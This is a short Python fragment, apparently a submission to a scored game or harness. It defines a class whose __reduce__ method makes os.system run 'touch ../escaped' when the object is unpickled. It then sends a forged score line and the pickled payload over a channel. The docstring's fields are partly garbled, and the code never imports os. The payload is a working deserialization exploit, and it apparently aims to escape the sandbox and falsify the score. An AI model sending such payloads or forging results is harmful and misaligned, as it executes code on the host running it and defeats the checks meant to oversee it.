"""A reply that would run a command if it were unpickled.

Others: solved
Points: 3 0 2 1
Above: pipes
Alone: forged
"""

# %% middle
middle = 1.0
import pickle
class Bomb:
    def __reduce__(self):
        return os.system, ("touch ../escaped",)
send(b'{"points": 7}\n')
send(pickle.dumps(Bomb()) + b"\n")
